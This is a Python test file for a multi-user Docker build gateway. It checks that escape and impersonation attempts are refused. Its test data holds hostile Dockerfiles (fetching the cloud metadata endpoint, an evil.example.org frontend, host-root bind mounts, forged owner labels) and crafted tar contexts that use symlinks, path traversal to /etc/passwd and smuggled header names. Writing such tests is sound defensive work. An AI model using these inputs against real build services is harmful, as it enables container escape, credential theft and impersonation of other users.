"""Dockerfiles and contexts that are to bring more than the person has: refused, and no image made."""

# ruff: noqa: E501 - a table is read by the row

import io
import tarfile
from urllib.parse import quote

import pytest

from integration.gateway.escape_images import build, member, sent, trap
from integration.gateway.escape_lab import Scene, assert_understood, unchanged
from integration.gateway.raw_http import ask

OTHERS = (
    r"No such image|pull access|may not be fetched|Nothing may be fetched|not found|does not exist"
)
LABEL = "platform's own"
DOCKERFILES: dict[str, tuple[str, str]] = {
    "from-other": ("FROM {their_image}\n", OTHERS),
    "from-other-by-id": ("FROM {their_image_id}\n", OTHERS),
    "from-other-in-namespace": ("FROM ds01-{victim}/{theirs}\n", OTHERS),
    "from-argument": ("ARG BASE={their_image_id}\nFROM $BASE\n", OTHERS),
    "from-argument-default": ("ARG X\nFROM ${X:-{their_image_id}}\n", OTHERS),
    "from-second-stage": ("FROM {image} AS a\nFROM {their_image_id}\n", OTHERS),
    "from-escaped": ("# escape=`\nFROM {their_image_id}\n", OTHERS),
    "from-continued": ("FROM \\\n{their_image_id}\n", OTHERS),
    "from-lower-case": ("from {their_image_id}\n", OTHERS),
    "copy-from-other": ("FROM {image}\nCOPY --from={their_image_id} / /x\n", OTHERS),
    "copy-from-argument": (
        "FROM {image}\nARG X={their_image_id}\nCOPY --from=$X / /x\n",
        "no variable",
    ),
    "copy-from-upper-case": (
        "FROM {image}\nCoPy --FrOm={their_image_id} / /x\n",
        OTHERS + "|needs BuildKit|flag",
    ),
    "copy-from-later": ("FROM {image}\nCOPY --from=7 / /x\n", "no earlier stage"),
    "copy-from-itself": ("FROM {image} AS {theirs}\nCOPY --from={theirs} / /x\n", OTHERS),
    "trigger-in-trigger": ("FROM {image}\nONBUILD ONBUILD RUN id\n", "ONBUILD"),
    "add-address": (
        "FROM {image}\nADD http://169.254.169.254/latest/meta-data /x\n",
        "fetches from the network",
    ),
    "add-address-list": (
        'FROM {image}\nADD ["https://127.0.0.1/x", "/x"]\n',
        "fetches from the network",
    ),
    "add-address-argument": ("FROM {image}\nARG U=http://127.0.0.1/\nADD $U /x\n", "variable"),
    "add-git": ("FROM {image}\nADD git@127.0.0.1:x /x\n", "fetches from the network"),
    "add-quoted": ('FROM {image}\nADD "http"://127.0.0.1/x /x\n', "fetches from the network"),
    "run-mount": (
        "FROM {image}\nRUN --mount=type=bind,source=/,target=/h ls /h\n",
        "need BuildKit",
    ),
    "run-network": ("FROM {image}\nRUN --network=host ifconfig\n", "need BuildKit"),
    "run-security": ("FROM {image}\nRUN --security=insecure id\n", "need BuildKit"),
    "label": ("FROM {image}\nLABEL ds01.user={victim}\n", LABEL),
    "label-quoted": ('FROM {image}\nLABEL "ds01.user"="{victim}"\n', LABEL),
    "label-single": ("FROM {image}\nLABEL 'ds01.managed'=true\n", LABEL),
    "label-half-quoted": ('FROM {image}\nLABEL d"s0"1.user={victim}\n', LABEL),
    "label-escaped": ("FROM {image}\nLABEL ds\\01.user={victim}\n", LABEL),
    "label-old-form": ("FROM {image}\nLABEL ds01.user {victim}\n", LABEL),
    "label-second": ("FROM {image}\nLABEL a=b ds01.user={victim}\n", LABEL),
    "label-continued": ("FROM {image}\nLABEL a=b \\\n# comment\n  ds01.user={victim}\n", LABEL),
    "label-variable": ("FROM {image}\nENV K=ds01.user\nLABEL $K={victim}\n", "holds a variable"),
    "label-aime": ("FROM {image}\nLABEL aime.mlc.USER={victim}\n", LABEL),
    "label-owner": ("FROM {image}\nLABEL ds01.image.owner={victim}\n", LABEL),
    "user-unknown-syntax": ("# syntax=evil.example.org/frontend\nFROM {their_image_id}\n", OTHERS),
    "heredoc": ("FROM {image}\nCOPY <<X /x\nFROM {their_image_id}\nX\n", "."),
    "nothing": ("ENV A=b\n", "FROM comes first|no build stage"),
}


@pytest.mark.parametrize(("dockerfile", "says"), DOCKERFILES.values(), ids=DOCKERFILES.keys())
def test_dockerfiles(scene: Scene, dockerfile: str, says: str) -> None:
    with unchanged(scene):
        done = build(scene, dockerfile)

    assert done.code != 0, done.out
    told = done.err.rpartition("Error response from daemon: ")[2]
    assert_understood(told, says)


TRIGGERS = {
    "copy-from": ("COPY --from={their_image_id} / /x", "copies from an image by name"),
    "add": ("ADD http://169.254.169.254/ /x", "fetches from the network"),
    "label": ("LABEL ds01.user={victim}", LABEL),
    "flag": ("RUN --mount=type=bind,source=/,target=/h ls /h", "need BuildKit"),
}


@pytest.mark.parametrize(("trigger", "says"), TRIGGERS.values(), ids=TRIGGERS.keys())
def test_triggers_of_a_base_image(scene: Scene, trigger: str, says: str) -> None:
    first = build(scene, f"FROM {{image}}\nONBUILD {trigger}\n")
    try:
        done = build(scene, f"FROM {trap(scene)}\n") if first.code == 0 else first
    finally:
        scene.attacker.try_docker("rmi", trap(scene))

    assert done.code != 0, done.out
    assert_understood(done.err.rpartition("Error response from daemon: ")[2], says)


def test_a_working_directory_of_the_kernels_shows_nothing_of_the_host(scene: Scene) -> None:
    done = build(
        scene, "FROM {image}\nARG W=/proc/self/fd/8\nWORKDIR $W\nRUN ls ../../.. && false\n"
    )

    assert done.code != 0
    assert "var" not in done.out + done.err.partition("Running in")[2].replace("environment", "")


@pytest.mark.parametrize(
    "options",
    [
        ("--cache-from", "{their_image_id}"),
        ("--label", "ds01.user={victim}", "--label", "ds01.image.owner={victim}"),
        ("--cgroup-parent", "/"),
        ("--build-arg", "NVIDIA_VISIBLE_DEVICES=all"),
        ("--add-host", "x:127.0.0.1"),
    ],
    ids=lambda options: str(options[0]),
)
def test_options_of_a_build_without_teeth(scene: Scene, options: tuple[str, ...]) -> None:
    person, name = scene.attacker, trap(scene)
    done = build(scene, "FROM {image}\nRUN cat /proc/self/cgroup > /where; env > /env\n", *options)
    try:
        assert done.code == 0, done.err
        labels = person.docker("image", "inspect", "-f", "{{json .Config.Labels}}", name)
        assert labels == f'{{"ds01.image.owner":"{person.name}"}}'
        where = person.docker("run", "--rm", name, "cat", "/where")
        groups = [line.split(":", 2)[2] for line in where.splitlines()]
        own = scene.gateway.platform.cgroups.parent("student", person.name)
        assert sum(each.startswith(f"{own}/") for each in groups) > len(groups) / 2
    finally:
        person.try_docker("rmi", name)


def context(scene: Scene, *members: tuple[tarfile.TarInfo, str]) -> bytes:
    return sent(scene, [(header, text.encode("latin-1")) for header, text in members])


GOOD = "FROM {image}\n"
BAD = "FROM {their_image_id}\nRUN cat /etc/hostname\n"
CONTEXTS: dict[str, tuple[str, list[tuple[tarfile.TarInfo, str]]]] = {
    "link": ("", [(member("Dockerfile", tarfile.SYMTYPE, "/etc/passwd"), "")]),
    "link-to-bad": ("", [(member("x"), BAD), (member("Dockerfile", tarfile.SYMTYPE, "x"), "")]),
    "hard-link": ("", [(member("x"), BAD), (member("Dockerfile", tarfile.LNKTYPE, "x"), "")]),
    "second-counts": ("", [(member("Dockerfile"), GOOD), (member("./Dockerfile"), BAD)]),
    "dots": ("", [(member("Dockerfile"), GOOD), (member("a/../Dockerfile"), BAD)]),
    "absolute": ("", [(member("Dockerfile"), GOOD), (member("/Dockerfile"), BAD)]),
    "outside": ("../../../etc/passwd", [(member("Dockerfile"), GOOD)]),
    "named-link": (
        "d/x",
        [(member("d", tarfile.SYMTYPE, "/etc"), ""), (member("Dockerfile"), GOOD)],
    ),
    "case": ("", [(member("dockerfile"), BAD)]),
}


@pytest.mark.parametrize(("dockerfile", "members"), CONTEXTS.values(), ids=CONTEXTS.keys())
def test_contexts(
    scene: Scene, dockerfile: str, members: list[tuple[tarfile.TarInfo, str]]
) -> None:
    person = scene.attacker
    content = sent(scene, [(header, text.encode()) for header, text in members])
    target = f"/build?t={trap(scene)}&dockerfile={quote(dockerfile)}"
    with unchanged(scene):
        told = person.run(lambda: ask(person.socket, "POST", target, content))

    assert told.status >= 400 or '"error"' in told.body, told
    assert "root:" not in told.body


@pytest.mark.parametrize("ending", [b"L", b"x", b"g"], ids=["long-name", "pax", "pax-global"])
def test_a_header_at_the_contexts_end_names_no_other_dockerfile(
    scene: Scene, ending: bytes
) -> None:
    """What follows it would get its name: the Dockerfile that the gateway puts there."""
    person = scene.attacker
    bad = member("other")
    name = b"Dockerfile.other\0" if ending == b"L" else b"25 path=Dockerfile.other\n"
    last = member("././@LongLink", ending)
    last.size = len(name)
    plain = context(scene, (member("Dockerfile"), GOOD), (bad, BAD)).rstrip(b"\0")
    plain += bytes(-len(plain) % 512)
    content = plain + last.tobuf(tarfile.GNU_FORMAT) + name + bytes(512 - len(name)) + bytes(1024)
    with unchanged(scene):
        told = person.run(
            lambda: ask(person.socket, "POST", f"/build?t={trap(scene)}&rm=1&q=1", content)
        )
        person.try_docker("rmi", trap(scene))

    assert "hostname" not in told.body


def test_a_fetched_context_cannot_be_smuggled_by_a_form(scene: Scene) -> None:
    person = scene.attacker
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w"):
        pass
    target = f"/build?t={trap(scene)}&remote=&remote=http%3A%2F%2F127.0.0.1%2F"
    with unchanged(scene):
        told = person.run(lambda: ask(person.socket, "POST", target, buffer.getvalue()))

    assert told.status >= 400, told
    assert_understood(told.message, "Dockerfile|fetched by the server")
